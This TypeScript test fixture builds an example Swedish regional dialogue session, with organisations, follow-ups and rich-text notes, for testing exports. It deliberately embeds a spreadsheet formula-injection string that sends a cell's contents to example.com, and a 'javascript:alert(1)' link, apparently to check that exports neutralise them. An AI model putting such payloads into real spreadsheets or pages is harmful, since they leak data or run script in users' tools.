// A dialogue that has been held, with names and notes, ready to be exported.
import { getSchema } from '@tiptap/core'
import type { JSONContent } from '@tiptap/core'
import { TaskItem, TaskList } from '@tiptap/extension-list'
import { StarterKit } from '@tiptap/starter-kit'
import { prosemirrorJSONToYDoc } from '@tiptap/y-tiptap'
import type * as Y from 'yjs'
import type { ExportSnapshot } from '#server/exports/snapshot.ts'
import type { Organisation } from '#shared/dialogue/organisation.ts'
import { NOTES_FRAGMENT } from '#shared/protocol/notes.ts'
import { DialogueBuilder } from '../../shared/dialogueBuilder.ts'

const organisations: readonly Organisation[] = [
  { id: 'vinnova', name: 'Vinnova', kind: 'national-actor', part: 'panel' },
  { id: 'energimyndigheten', name: 'Energimyndigheten', kind: 'national-actor', part: 'panel' },
  { id: 'orebro', name: 'Region Örebro län', kind: 'region', part: 'presents' },
  { id: 'halland', name: 'Region Halland', kind: 'region', part: 'presents' },
]

/** What stands in every export of the example. */
export const agreed = 'Boka möte om vätgas för sjöfart, åtgärder på ö'

/** A text that a spreadsheet would take for a formula. */
export const hostile = '=HYPERLINK("http://example.com/?x="&A1;"Öppna")'

// opening 0–5 · Örebro 5–16 · discussion · Halland (skipped) …
function held(): DialogueBuilder {
  const dialogue = new DialogueBuilder({ title: 'Snabbdialog: Ö-drift & "vätgas"', organisations })
    .invite('leader', 'vinnova', 'facilitator')
    .invite('officer', 'energimyndigheten', 'panel')
    .invite('presenter', 'orebro', 'presenter')
    .invite('screen', null, 'display')
    .at(-3)
    .arrive('leader', 'presenter', 'screen')
    .at(0)
    .by('leader', { type: 'dialogue.start' })
    .at(5)
    .next()
    .at(9)
    .arrive('officer')
  const slotId = dialogue.slotId('presentation', 'orebro')
  dialogue.by('officer', {
    type: 'area.record',
    slotId,
    fields: {
      subject: 'Vätgas för sjöfart',
      regionIds: ['orebro'],
      actorIds: ['energimyndigheten', 'vinnova'],
      nextStep: 'system-demonstrator',
      nextStepNote: 'Fullskalig, gärna i hamn',
    },
  })
  const areaId = Object.keys(dialogue.state.areas.areas)[0] ?? null
  dialogue
    .by('officer', {
      type: 'followUp.record',
      slotId,
      fields: {
        what: agreed,
        ownerOrganisationId: 'energimyndigheten',
        ownerPersonId: 'officer',
        dueDate: '2027-01-15',
        areaId,
      },
    })
    .by('officer', {
      type: 'followUp.record',
      slotId: null,
      fields: { what: hostile, ownerOrganisationId: 'orebro', dueDate: '2026-12-01', status: 'dropped' },
    })
    .by('officer', {
      type: 'followUp.record',
      slotId: null,
      fields: { what: 'Utan dag\nmen med två rader', ownerOrganisationId: 'vinnova' },
    })
  dialogue
    .at(16)
    .next()
    .at(18)
    .by('leader', { type: 'slot.skip', slotId: dialogue.slotId('presentation', 'halland') })
  return dialogue.at(20).by('leader', { type: 'dialogue.end' })
}

const schema = getSchema([StarterKit, TaskList, TaskItem.configure({ nested: true })])

/** Notes as the editor stores them. */
export function notesOf(...content: readonly JSONContent[]): Y.Doc {
  return prosemirrorJSONToYDoc(schema, { type: 'doc', content: [...content] }, NOTES_FRAGMENT)
}

export const plain = (text: string): JSONContent => ({
  type: 'paragraph',
  content: [{ type: 'text', text }],
})

const item = (...content: readonly JSONContent[]): JSONContent => ({
  type: 'listItem',
  content: [...content],
})
const task = (checked: boolean, text: string): JSONContent => ({
  type: 'taskItem',
  attrs: { checked },
  content: [plain(text)],
})

const notes = notesOf(
  { type: 'heading', attrs: { level: 2 }, content: [{ type: 'text', text: 'Fokusområden' }] },
  {
    type: 'paragraph',
    content: [
      { type: 'text', text: 'Skoglig ' },
      { type: 'text', text: 'bioekonomi', marks: [{ type: 'bold' }] },
      { type: 'text', text: ', se ' },
      {
        type: 'text',
        text: 'strategin',
        marks: [{ type: 'link', attrs: { href: 'https://example.com/å?a=1&b=2' } }],
      },
      { type: 'text', text: ' och ' },
      { type: 'text', text: 'fällan', marks: [{ type: 'link', attrs: { href: 'javascript:alert(1)' } }] },
    ],
  },
  {
    type: 'bulletList',
    content: [
      item(plain('Hamnar'), {
        type: 'orderedList',
        attrs: { start: 3 },
        content: [item(plain('Tredje punkten'))],
      }),
      item(plain('Fartyg')),
    ],
  },
  { type: 'taskList', content: [task(true, 'Kontakta kommunen'), task(false, 'Skicka underlag')] },
)

/** The example as it stands ten minutes after its end. */
export function exampleSnapshot(language: 'sv' | 'en' = 'sv'): ExportSnapshot {
  const dialogue = held().at(30)
  return {
    state: dialogue.state,
    log: dialogue.log,
    directory: {
      leader: { id: 'leader', name: 'Facilitator Exempel' },
      officer: { id: 'officer', name: 'Handläggare Energimyndigheten' },
    },
    notes: new Map([[dialogue.slotId('presentation', 'orebro'), notes]]),
    pulse: {
      answers: 5,
      valuable: [0, 0, 1, 1, 3],
      valuableMean: 4.4,
      rightActors: { yes: 3, partly: 2, no: 0 },
      next: ['Ett möte om laddning längs E18'],
    },
    language,
    now: dialogue.now,
    baseUrl: 'https://dialog.example.se',
  }
}
